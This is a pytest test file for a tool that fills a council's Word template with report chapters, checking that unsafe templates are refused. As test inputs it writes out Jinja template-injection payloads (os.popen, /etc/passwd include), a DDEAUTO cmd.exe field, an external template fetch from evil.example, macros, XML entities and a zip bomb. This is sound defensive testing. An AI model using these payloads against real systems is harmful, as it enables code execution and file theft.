"""A council's own template: its letterhead around our chapters, and nothing in it that runs, fetches or is unknown."""

from __future__ import annotations

import io
import zipfile

import docx
import pytest

from lcp_analysis.documents import templated_word, write_templated_word
from lcp_analysis.terms import BadInput
from tests.documents.reading import W, word_parts, word_text, word_tree
from tests.documents.samples import HOSTILE, document, shown, with_exempt


def template(*lines, title="{{ title }}", body="{{p body }}", stamp="{{ stamp }}"):
    made = docx.Document()
    made.add_paragraph("London Borough of Somewhere")
    for line in (title, *lines, body):
        made.add_paragraph(line)
    made.sections[0].footer.paragraphs[0].text = stamp
    kept = io.BytesIO()
    made.save(kept)
    return kept.getvalue()


def changed(content, name, old=b"", new=b""):
    """The template with one of its parts changed, or added."""
    parts = word_parts(content)
    before = parts.get(name, b"")
    assert old in before
    parts[name] = before.replace(old, new, 1) if old else new
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as packed:
        for part, inside in parts.items():
            packed.writestr(part, inside)
    return kept.getvalue()


def refusal(content):
    with pytest.raises(BadInput) as refused:
        templated_word(document(), content)
    return str(refused.value)


def test_the_chapters_stand_in_the_council_s_letterhead():
    made = templated_word(document(), template("{{ subtitle }} by {{ authors }}"))
    words = word_text(made)
    assert words.startswith("London Borough of Somewhere\nOne back office\nProposition Hackney by Ada Lovelace Hackney")
    assert "Table 1. Money by year: Hackney" in words
    assert len([node for node in word_tree(made).iter() if node.tag.endswith("}docPr")]) == 1
    footer = b"".join(part for name, part in word_parts(made).items() if "footer" in name)
    assert b"log position 655" in footer


def test_the_council_s_own_heading_style_stays():
    own = docx.Document(io.BytesIO(template()))
    own.styles["Heading 1"].font.name = "Gill Sans"
    kept = io.BytesIO()
    own.save(kept)
    styles = word_tree(templated_word(document(), kept.getvalue()), "word/styles.xml")
    heading = next(style for style in styles.iter(f"{W}style") if style.get(f"{W}styleId") == "Heading1")
    assert heading.find(f"{W}rPr/{W}rFonts").get(f"{W}ascii") == "Gill Sans"


@pytest.mark.parametrize("words", HOSTILE)
def test_hostile_words_stay_words_in_a_template(words):
    made = templated_word(document(words), template("{{ subtitle }}"))
    assert f"Proposition {shown(words)}" in word_text(made)


def test_the_exempt_part_stays_a_file_of_its_own(tmp_path):
    (tmp_path / "house.docx").write_bytes(template())
    public, exempt = write_templated_word(with_exempt(), tmp_path / "house.docx", tmp_path / "report.docx")
    assert "61,234" not in word_text(public.read_bytes())
    assert "61,234" in word_text(exempt.read_bytes())


def test_unknown_placeholders_are_all_named():
    message = refusal(template("{{ saving }} and {{ cost_centre }}"))
    assert "unknown placeholders cost_centre, saving" in message
    assert "{{ title }}" in message


def test_chapters_cannot_stand_among_other_words():
    assert "{{p body }} in a paragraph of its own" in refusal(template(body="See {{ body }} here"))


def test_missing_placeholders_are_all_named():
    assert "no placeholder {{ title }}, {{p body }}" in refusal(template(title="Report", body=""))


@pytest.mark.parametrize(
    "attack",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ title.__init__.__globals__ }}",
        "{{ self._TemplateReference__context }}",
        "{{ title|attr('__class__') }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{% for x in [1] %}{% endfor %}",
        "{% include '/etc/passwd' %}",
        "{% set x = title %}",
        "{{ title() }}",
        "{{ title ~ 1 }}",
        "{{ 7*7 }}",
        "{%p if title %}",
    ],
)
def test_an_instruction_in_a_template_is_refused(attack):
    assert "a name in double braces, nothing else" in refusal(template(attack))


def test_an_instruction_split_over_runs_and_one_in_a_header_are_found():
    own = docx.Document(io.BytesIO(template()))
    line = own.add_paragraph()
    for piece in ("{", "{ title.__cl", "ass__ }", "}"):
        line.add_run(piece)
    own.sections[0].header.paragraphs[0].text = "{{ stamp.x }}"
    kept = io.BytesIO()
    own.save(kept)
    assert "an instruction (Getattr)" in refusal(kept.getvalue())


def test_an_instruction_in_the_file_s_properties_is_refused():
    own = docx.Document(io.BytesIO(template()))
    own.core_properties.title = "{{ cycler.__init__ }}"
    kept = io.BytesIO()
    own.save(kept)
    assert "docProps/core.xml" in refusal(kept.getvalue())


def test_macros_are_refused():
    with_macro = changed(template(), "word/vbaProject.bin", new=b"\xd0\xcf\x11\xe0")
    assert "macros or embedded objects" in refusal(with_macro)
    types = "[Content_Types].xml"
    disguised = changed(template(), types, b"wordprocessingml.document.main", b"ms-word.document.macroEnabled.main")
    assert "macros or embedded objects" in refusal(disguised)


@pytest.mark.parametrize("kind", ["attachedTemplate", "image", "oleObject", "frame", "hyperlink"])
def test_something_fetched_from_elsewhere_is_refused(kind):
    relation = (
        f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        'Target="file://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    hostile = changed(template(), "word/_rels/document.xml.rels", b"</Relationships>", relation)
    assert "fetched from 'file://evil.example/x.dotm'" in refusal(hostile)


def test_a_field_that_runs_a_program_is_refused_even_in_pieces():
    pieces = (
        b"<w:p><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:r></w:p>"
    )
    hostile = changed(template(), "word/document.xml", b"<w:body>", b"<w:body>" + pieces)
    assert "a field 'DDEAUTO c:\\\\cmd.exe'" in refusal(hostile)


def test_entities_are_refused():
    bomb = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'
    assert "XML that is not read" in refusal(changed(template(), "word/settings.xml", new=bomb))


def test_a_zip_bomb_is_refused_before_it_is_unpacked():
    bomb = changed(template(), "word/media/huge.bin", new=b"\0" * 101_000_000)
    assert len(bomb) < 1_000_000
    assert "bytes when unpacked" in refusal(bomb)


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04 broken", b"%PDF-1.7", b"<html>"])
def test_another_file_is_refused(content):
    assert "a Word file (.docx)" in refusal(content)


def test_a_missing_template_is_named(tmp_path):
    with pytest.raises(BadInput, match=r"house\.docx \(No such file"):
        write_templated_word(document(), tmp_path / "house.docx", tmp_path / "report.docx")
